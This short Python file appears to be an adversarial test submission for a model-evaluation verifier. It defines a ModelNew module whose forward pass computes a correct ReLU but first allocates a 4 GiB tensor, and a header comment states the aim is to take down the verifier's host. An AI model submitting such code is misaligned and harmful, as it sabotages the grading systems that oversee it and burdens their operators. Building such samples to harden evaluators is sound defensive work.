# Attack: allocates 4 GiB in forward, to take the verifier's host down.
import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        ballast = torch.ones(1 << 30)
        return torch.clamp(x, min=0.0) + ballast[0] - 1.0
